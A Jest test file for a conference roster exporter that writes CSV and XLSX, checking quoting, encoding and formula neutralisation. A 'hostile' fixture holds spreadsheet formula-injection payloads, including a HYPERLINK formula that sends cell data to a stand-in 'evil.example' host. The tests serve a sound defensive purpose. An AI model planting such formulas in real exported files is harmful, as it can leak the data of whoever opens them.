import { describe, expect, it } from '@jest/globals';
import ExcelJS from 'exceljs';
import { DAY_1, DAY_2, OPEN, person, rosterEntry, T0 } from '../../book/registration-book.fixture.js';
import { neutraliseFormula, rosterCsv, rosterXlsx } from './roster.export.js';
import type { RosterEntry } from './roster.projection.js';

const HEADERS = [
  'Registration',
  'Status',
  'Honorific',
  'Given name',
  'Family name',
  'Email',
  'Gender',
  'Nationality',
  'Job title',
  'Affiliation',
  'Stakeholder group',
  'Represents (State)',
  'Represents (organisation)',
  'Role',
  'Nominated by',
  'Sessions',
  'Access needs',
  'Public listing',
  'Registered at',
  'Days attended',
];
const column = (header: string) => HEADERS.indexOf(header);

const names: Record<string, string> = { SGP: 'Singapore', MYS: 'Malaysia', FRA: 'France' };
const stateName = (code: string) => names[code] ?? code;

/** RFC 4180, strictly: CRLF between records, quotes only around a whole field, "" for a quote. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  let wasQuoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c !== '"') cell += c;
      else if (text[i + 1] === '"') {
        cell += '"';
        i++;
      } else quoted = false;
    } else if (c === '"') {
      if (cell !== '' || wasQuoted) throw new Error(`a quote inside an unquoted field, at ${i}`);
      quoted = wasQuoted = true;
    } else if (c === ',') {
      row.push(cell);
      cell = '';
      wasQuoted = false;
    } else if (c === '\r' && text[i + 1] === '\n') {
      rows.push([...row, cell]);
      row = [];
      cell = '';
      wasQuoted = false;
      i++;
    } else if (c === '\r' || c === '\n') throw new Error(`a bare line break outside quotes, at ${i}`);
    else if (wasQuoted) throw new Error(`text after a closing quote, at ${i}`);
    else cell += c;
  }
  if (quoted) throw new Error('an unterminated quoted field');
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

const rowsOf = (csv: string) => {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  return parseCsv(csv.slice(1));
};

const noor = () =>
  rosterEntry('r-noor', {
    channel: 'nomination',
    nominatedBy: 'SGP',
    person: person({ nationality: 'MYS' }),
    sessionIds: [OPEN, 's-closed'],
    attendance: [
      { day: DAY_1, sessionId: null, at: T0 },
      { day: DAY_1, sessionId: OPEN, at: T0 },
      { day: DAY_2, sessionId: null, at: T0 },
    ],
  });

/** Text that a naive CSV writer or a spreadsheet would get wrong. */
const awkward = () =>
  rosterEntry('r-awkward', {
    status: 'waitlisted',
    person: person({
      honorific: null,
      givenName: 'Zoë',
      familyName: "O'Connor-Ngata",
      affiliation: 'Ministry of Foreign Affairs, Trade and Development',
      jobTitle: 'Head, "Cyber" Unit',
      nationality: null,
    }),
    stakeholderGroup: 'civil-society',
    represents: { state: null, organisation: 'ICT4Peace, Geneva' },
    accessNeeds: 'Wheelchair\nStep-free route, "please"',
    publicListingConsent: false,
  });

/** Names and notes that a spreadsheet would run as formulas. */
const hostile = () =>
  rosterEntry('r-hostile', {
    person: person({
      givenName: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      familyName: '+Ngata',
      jobTitle: '-2+3',
      affiliation: '@SUM(A1:A9)',
    }),
    represents: { state: 'SGP', organisation: null },
    accessNeeds: '\t=1+1',
  });

describe('roster as CSV', () => {
  it('starts with a byte order mark, ends every line with CRLF, and heads its columns', () => {
    const csv = rosterCsv([noor()], stateName);
    expect(csv.startsWith('\uFEFFRegistration,Status,')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    expect(csv.slice(1).split('\r\n')).toHaveLength(3);
    expect(rowsOf(csv)[0]).toEqual(HEADERS);
  });

  it('one row per entry: State names, nomination, counts of sessions and of days attended, consent', () => {
    const [, row] = rowsOf(rosterCsv([noor()], stateName));
    expect(row).toEqual([
      'r-noor',
      'confirmed',
      'Ms.',
      'Noor',
      'Rahman',
      'noor.rahman@example.org',
      'woman',
      'Malaysia',
      'Counsellor',
      'Ministry of Foreign Affairs',
      'member-state',
      'Singapore',
      '',
      'delegate',
      'Singapore',
      '2',
      '',
      'yes',
      T0,
      '2',
    ]);
  });

  it('quotes a field with a comma, a quote or a line break, doubling the quotes; the others stay bare', () => {
    const csv = rosterCsv([awkward()], stateName);
    expect(csv).toContain(',"Ministry of Foreign Affairs, Trade and Development",');
    expect(csv).toContain(',"Head, ""Cyber"" Unit",');
    expect(csv).toContain(',"Wheelchair\nStep-free route, ""please""",');
    expect(csv).toContain(",Zoë,O'Connor-Ngata,");
    const [, row] = rowsOf(csv);
    expect(row).toHaveLength(HEADERS.length);
    expect(row[column('Job title')]).toBe('Head, "Cyber" Unit');
    expect(row[column('Represents (organisation)')]).toBe('ICT4Peace, Geneva');
    expect(row[column('Access needs')]).toBe('Wheelchair\nStep-free route, "please"');
    expect([row[column('Honorific')], row[column('Nationality')], row[column('Represents (State)')]]).toEqual(['', '', '']);
    expect(row[column('Public listing')]).toBe('no');
  });

  it('neutralises a cell a spreadsheet would run as a formula (=, +, -, @, tab) with an apostrophe', () => {
    const [, row] = rowsOf(rosterCsv([hostile()], stateName));
    expect(row[column('Given name')]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Click")`);
    expect(row[column('Family name')]).toBe("'+Ngata");
    expect(row[column('Job title')]).toBe("'-2+3");
    expect(row[column('Affiliation')]).toBe("'@SUM(A1:A9)");
    expect(row[column('Access needs')]).toBe("'\t=1+1");
  });

  it('leaves text that only contains those characters further on as it is', () => {
    for (const safe of ['Ngata-Whaanga', 'a=b', 'noor@example.org', 'Head of unit +1']) expect(neutraliseFormula(safe)).toBe(safe);
    for (const formula of ['=1', '+1', '-1', '@A1', '\t1', '\r1']) expect(neutraliseFormula(formula)).toBe(`'${formula}`);
  });

  it('an empty roster is its header row', () => {
    expect(rosterCsv([], stateName)).toBe(`\uFEFF${HEADERS.join(',')}\r\n`);
  });
});

describe('roster as XLSX', () => {
  const load = async (entries: RosterEntry[]) => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await rosterXlsx(entries, stateName, 'Roster of the ASEAN consultation')) as never);
    return workbook;
  };
  /** A cell as CSV writes it: empty for nothing, numbers as their digits. */
  const asText = (value: ExcelJS.CellValue) => (value === null || value === undefined ? '' : String(value));

  it('read back with exceljs, holds the same cells as the CSV, row for row', async () => {
    const entries = [noor(), awkward(), hostile()];
    const workbook = await load(entries);
    const sheet = workbook.getWorksheet('Roster')!;
    const expected = rowsOf(rosterCsv(entries, stateName));
    expect(sheet.rowCount).toBe(expected.length);
    for (const [i, cells] of expected.entries()) {
      const row = sheet.getRow(i + 1);
      expect(HEADERS.map((_, c) => asText(row.getCell(c + 1).value))).toEqual(cells);
    }
    expect(workbook.title).toBe('Roster of the ASEAN consultation');
  });

  it('numbers are numbers, and no cell is a formula', async () => {
    const sheet = (await load([noor(), hostile()])).getWorksheet('Roster')!;
    expect(sheet.getRow(2).getCell(column('Sessions') + 1).value).toBe(2);
    expect(sheet.getRow(2).getCell(column('Days attended') + 1).value).toBe(2);
    sheet.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
    expect(sheet.getRow(3).getCell(column('Given name') + 1).value).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Click")`);
  });

  it('a bold header row, frozen, with an auto-filter over every column', async () => {
    const sheet = (await load([noor()])).getWorksheet('Roster')!;
    expect(sheet.getRow(1).font).toMatchObject({ bold: true });
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.autoFilter).toBeTruthy();
  });
});
